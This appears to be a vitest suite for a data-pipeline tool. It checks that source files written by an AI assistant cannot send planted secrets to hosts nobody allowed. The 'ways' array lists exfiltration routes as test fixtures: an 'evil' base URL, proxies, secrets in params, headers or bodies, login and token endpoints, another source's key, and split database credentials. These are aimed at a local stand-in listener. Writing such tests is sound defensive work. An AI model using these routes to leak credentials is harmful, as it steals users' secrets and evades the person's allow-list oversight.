import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer, type AddressInfo } from 'node:net'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import { actForAssistant, allowLogin } from '../../src/egress/index.ts'
import { pipeline, PipelineError, writeSecret } from '../../src/index.ts'
import { keepToken } from '../../src/sources/rest/auth/kept-tokens.ts'
import { loadSourceFile } from '../../src/sources/rest/index.ts'
import { allowDestination, allowHosts, allowSecret } from '../../src/workbench/allowed-hosts.ts'
import { api, json, type TestApi } from '../support/api.ts'
import { assistant, assistantHere } from '../support/assistant.ts'
import { someOf } from '../support/effort.ts'

const planted = 'planted-secret-0123456789'

/** Counts the connections and keeps what came over them. */
async function listener(): Promise<{ port: number; url: string; got: string[] }> {
  const got: string[] = []
  const server = createServer((socket) => {
    got.push('')
    socket.on('data', (data) => void (got[got.length - 1] += data.toString('latin1')))
    socket.on('error', () => undefined)
    setTimeout(() => socket.destroy(), 500).unref()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const { port } = server.address() as AddressInfo
  return { port, url: `http://127.0.0.1:${port}`, got }
}

const ownApi = (): Promise<TestApi> =>
  api((_request, response, url) => json(response, { items: [{ id: 1, asked: url.pathname }] }))

interface Way {
  name: string
  /** A source file; `own` is an address on this machine, `evil` one that nobody has allowed. */
  file(own: string, evil: string): string
  config?(evil: string): string
  /** The secret does not go along, so the host may be asked. */
  isWithheld?: boolean
}

const items = 'endpoint: { path: items, data_selector: items, paginator: single_page }'
const source = (client: string, resources = `- { name: items, ${items} }`, more = ''): string =>
  `name: shop\n${more}client:\n  max_attempts: 1\n${client}\nresources:\n  ${resources}\n`
const auth = '  auth: { type: bearer, token: { secret: token } }'

/** Ways to have a secret leave: an assistant writes the file, and settings with its host's tools. */
const ways: Way[] = [
  {
    name: 'the base URL',
    file: (_own, evil) => source(`  base_url: ${evil.replace('127.0.0.1', 'evil.localhost.test')}\n${auth}`),
  },
  { name: 'a proxy', file: (own, evil) => source(`  base_url: ${own}\n  proxy: ${evil}\n${auth}`) },
  {
    name: 'a proxy that the settings name',
    file: (own) => source(`  base_url: ${own}\n  proxy: { config: exit }\n${auth}`),
    config: (evil) => `[sources.shop]\nexit = "${evil}"\n`,
  },
  {
    name: 'a full address with its own auth',
    file: (own, evil) =>
      source(
        `  base_url: ${own}`,
        `- { name: a, endpoint: { path: '${evil}/a', auth: { type: bearer, token: { secret: token } } } }`,
      ),
  },
  ...['params', 'json', 'headers', 'data'].map((place) => ({
    name: `${place} of a full address`,
    isWithheld: place === 'headers' || place === 'data',
    file: (own: string, evil: string) =>
      source(
        `  base_url: ${own}\n  allowed_hosts: ['${new URL(evil).host}']`,
        `- { name: a, endpoint: { method: POST, path: '${evil}/a', ${place}: { k: { secret: token } } } }`,
      ),
  })),
  {
    name: 'a secret that is called a setting',
    file: (own, evil) =>
      source(`  base_url: ${own}`, `- { name: a, endpoint: { path: '${evil}/a', params: { k: { config: token } } } }`),
  },
  {
    name: 'a variable that is called a setting',
    file: (own, evil) =>
      source(
        `  base_url: ${own}`,
        `- { name: a, endpoint: { path: '${evil}/a', params: { k: { config: planted_variable } } } }`,
      ),
  },
  {
    name: 'rows made of a secret',
    file: (own, evil) =>
      source(
        `  base_url: ${own}`,
        `- { name: keys, rows: { config: token } }\n  - { name: a, endpoint: { path: '${evil}/{resources.keys.value}' } }`,
      ),
  },
  {
    name: 'a login',
    file: (own, evil) =>
      source(
        `  base_url: ${own}\n  auth: { type: session, url: '${evil}/login', json: { password: { secret: token } } }`,
      ),
  },
  {
    name: 'a token endpoint',
    file: (own, evil) =>
      source(
        `  base_url: ${own}\n  auth: { type: oauth2_client_credentials, access_token_url: '${evil}/token', client_id: x, client_secret: { secret: token } }`,
      ),
  },
  {
    name: 'the auth of all endpoints',
    isWithheld: true,
    file: (own, evil) =>
      source(
        `  base_url: ${own}`,
        `- { name: a, endpoint: { path: '${evil}/a' } }`,
        'resource_defaults: { endpoint: { auth: { type: bearer, token: { secret: token } } } }\n',
      ),
  },
  {
    name: 'the key of another source',
    isWithheld: true,
    file: (own, evil) =>
      source(`  base_url: ${own}\n${auth}`, `- { name: a, endpoint: { path: '${evil}/a' } }`).replace(
        'name: shop',
        'name: bank',
      ),
  },
]

async function world() {
  const { folder, call } = await assistantHere()
  writeSecret('sources.shop.token', planted, folder)
  writeSecret('sources.bank.token', planted, folder)
  process.env.PLANTED_VARIABLE = planted
  onTestFinished(() => void delete process.env.PLANTED_VARIABLE)
  const write = (text: string) => call('write_source_file', { path: 'shop.source.yaml', text, overwrite: true })
  const settings = (text: string): void => {
    mkdirSync(join(folder, '.sluice'), { recursive: true })
    writeFileSync(join(folder, '.sluice', 'config.toml'), text)
  }
  return { folder, call, write, settings }
}

describe('what an assistant starts sends no secret where no person has allowed it', () => {
  it.each(someOf(ways, 5).map((way) => [way.name, way] as const))('by %s', async (_name, way) => {
    const [{ call, write, settings, folder }, own, evil] = [await world(), await ownApi(), await listener()]
    // What was allowed for the API itself opens nothing else.
    allowSecret(folder, 'sources.shop.token', own.baseUrl)
    settings(way.config?.(evil.url) ?? '')
    const file = way.file(own.baseUrl, evil.url)
    expect((await write(file)).isError, file).toBe(false)
    for (const [tool, input] of [
      ['probe_source', { path: 'shop.source.yaml' }],
      ['secrets_check', { source: 'shop.source.yaml' }],
    ] as const) {
      const { text } = await call(tool, input)
      expect(text).not.toContain(planted)
      expect(text, tool).toContain('sluice secrets allow')
    }
    // Without the look ahead of the tools: where a connection would be made.
    expect(evil.got).toEqual([])
    const run = actForAssistant(() => pipeline({ name: 'direct' }).run(loadSourceFile('shop.source.yaml')))
    const error = await run.catch((one: unknown) => one)
    expect(error, evil.got.join('\n')).toBeInstanceOf(PipelineError)
    // A host on this machine may be asked when no secret was looked up for it.
    expect(evil.got.join('\n'), String(error)).not.toContain(planted)
    if (!way.isWithheld) expect(error).toMatchObject({ code: 'HOST_NOT_ALLOWED' })
  })

  it('and where it is allowed, it is sent', async () => {
    const [{ call, write, folder }, own, other] = [await world(), await ownApi(), await ownApi()]
    await write(
      source(
        `  base_url: ${own.baseUrl}\n${auth}`,
        `- { name: a, endpoint: { path: '${other.baseUrl}/a', paginator: single_page, auth: { type: bearer, token: { secret: token } } } }`,
      ),
    )
    expect((await call('probe_source', { path: 'shop.source.yaml' })).text).toContain('which nobody has allowed')
    await allowHosts(folder, 'shop.source.yaml')
    await call('probe_source', { path: 'shop.source.yaml' })
    expect(other.headers.map(({ authorization }) => authorization)).toEqual([`Bearer ${planted}`])
    // The allowed address gets the secrets that were allowed with it, not those of another source.
    await write(
      source(`  base_url: ${own.baseUrl}`, `- { name: a, endpoint: { path: '${other.baseUrl}/a' } }`).replace(
        'name: shop',
        'name: bank',
      ),
    )
    await write(
      source(
        `  base_url: ${own.baseUrl}`,
        `- { name: a, endpoint: { path: '${other.baseUrl}/a', auth: { type: bearer, token: { secret: token } } } }`,
      ).replace('name: shop', 'name: bank'),
    )
    expect((await call('probe_source', { path: 'shop.source.yaml' })).text).toContain('secrets allow')
    expect(other.requests).toHaveLength(1)
  })

  it('a list of an earlier version counts for the section that has the name of the source', async () => {
    const [{ call, write, folder }, own, other] = [await world(), await ownApi(), await ownApi()]
    mkdirSync(join(folder, 'data'), { recursive: true })
    const list = { [folder]: { 'shop.source.yaml': [other.baseUrl] } }
    writeFileSync(join(folder, 'data', 'allowed-hosts.json'), JSON.stringify(list))
    const endpoint = `{ path: '${other.baseUrl}/a', paginator: single_page, auth: { type: bearer, token: { secret: token } } }`
    const file = source(`  base_url: ${own.baseUrl}`, `- { name: a, endpoint: ${endpoint} }`)
    await write(file.replace('name: shop', 'name: bank'))
    expect((await call('probe_source', { path: 'shop.source.yaml' })).text).toContain('secrets allow')
    await write(file)
    await call('probe_source', { path: 'shop.source.yaml' })
    expect(other.requests).toHaveLength(1)
  })
})

describe('a destination is opened with settings of one hand only', () => {
  const secrets = (port: number) =>
    `username = "u"\npassword = "${planted}"\ndatabase = "d"\n${port === 0 ? '' : `host = "127.0.0.1"\nport = ${port}\n`}`
  const section = '[destination.postgres.credentials]\n'
  const place = (port: number, name = 'destination'): string =>
    `[${name}.postgres.credentials]\nhost = "127.0.0.1"\nport = ${port}\n`

  async function postgresWorld() {
    const { folder, call, settings } = await world()
    const keep = (text: string): void => writeFileSync(join(folder, '.sluice', 'secrets.toml'), text, { mode: 0o600 })
    return { folder, settings, keep, check: () => call('secrets_check', { destination: 'postgres' }) }
  }

  it('an address from config.toml does not get the password of secrets.toml', async () => {
    const [{ settings, keep, check, folder }, evil] = [await postgresWorld(), await listener()]
    keep(section + secrets(0))
    for (const name of ['destination', 'secrets_check.destination']) {
      settings(place(evil.port, name))
      expect((await check()).text).toContain('secrets allow destination.postgres')
    }
    settings(`[destination.postgres]\ncredentials = "postgres://u@127.0.0.1:${evil.port}/d"\n`)
    keep('')
    expect((await check()).text).toContain('secrets allow destination.postgres')
    expect(evil.got).toEqual([])
    // A person allows the settings as they are now, and no others.
    keep(section + secrets(0))
    settings(place(evil.port))
    expect(await allowDestination(folder, 'postgres')).toEqual([
      'credentials.host = 127.0.0.1',
      `credentials.port = ${evil.port}`,
    ])
    await check()
    expect(evil.got.length).toBeGreaterThan(0)
    evil.got.length = 0
    settings(`${place(evil.port)}sslmode = "disable"\n`)
    expect((await check()).text).toContain('secrets allow destination.postgres')
    expect(evil.got).toEqual([])
  })

  it('an address next to the password is what a person wrote', async () => {
    const [{ keep, check }, own] = [await postgresWorld(), await listener()]
    keep(section + secrets(own.port))
    expect((await check()).text).not.toContain('secrets allow')
    expect(own.got.length).toBeGreaterThan(0)
  })
})

it('a run in a process of its own obeys the same list', { tags: ['slow'] }, async () => {
  const { folder, call } = await assistant({ args: ['--allow-run'] })
  const [own, evil] = [await ownApi(), await listener()]
  writeSecret('sources.shop.token', planted, folder)
  writeFileSync(
    join(folder, 'shop.source.yaml'),
    source(`  base_url: ${own.baseUrl}\n  proxy: { config: exit }\n${auth}`),
  )
  writeFileSync(
    join(folder, '.sluice', 'config.toml'),
    `[other_name.sources.shop]\nexit = "${evil.url}"\n[sources.shop]\nexit = "${own.baseUrl}"\n`,
  )
  const { data } = await call('run_pipeline', { target: 'shop.source.yaml', pipeline_name: 'other_name' })
  expect(data).toMatchObject({ ok: false, error: { code: 'HOST_NOT_ALLOWED' } })
  expect(evil.got).toEqual([])
})

it('the token of a login goes where a person allowed it, not where a file with the same name says', async () => {
  const [{ call, write, folder }, own, evil] = [await world(), await ownApi(), await listener()]
  const tokens = await api((_request, response) => json(response, { access_token: 'granted-token-1', expires_in: 60 }))
  keepToken({ source: 'shop', given: 'client-1' }, planted)
  const login = `{ type: oauth2_authorization_code, access_token_url: '${tokens.baseUrl}/t', authorization_url: '${tokens.baseUrl}/a', client_id: client-1 }`
  const file = (resources?: string): string => source(`  base_url: ${own.baseUrl}\n  auth: ${login}`, resources)
  const attempts = [
    file(),
    file(`- { name: a, endpoint: { path: '${evil.url}/a', auth: ${login} } }`),
    file().replaceAll(tokens.baseUrl, evil.url),
  ]
  for (const text of attempts) {
    await write(text)
    const { text: answer } = await call('probe_source', { path: 'shop.source.yaml' })
    expect(answer).toContain('secrets allow')
    // Somebody else's folder, run by a person who once logged in to a source of that name.
    await expect(pipeline({ name: 'direct' }).run(loadSourceFile('shop.source.yaml'))).rejects.toMatchObject({
      code: 'HOST_NOT_ALLOWED',
    })
  }
  expect([...tokens.requests, ...own.requests, ...evil.got]).toEqual([])
  allowLogin(folder, 'shop', [own.baseUrl, tokens.baseUrl])
  await write(file())
  await pipeline({ name: 'direct' }).run(loadSourceFile('shop.source.yaml'))
  expect(own.headers.map(({ authorization }) => authorization)).toEqual(['Bearer granted-token-1'])
})
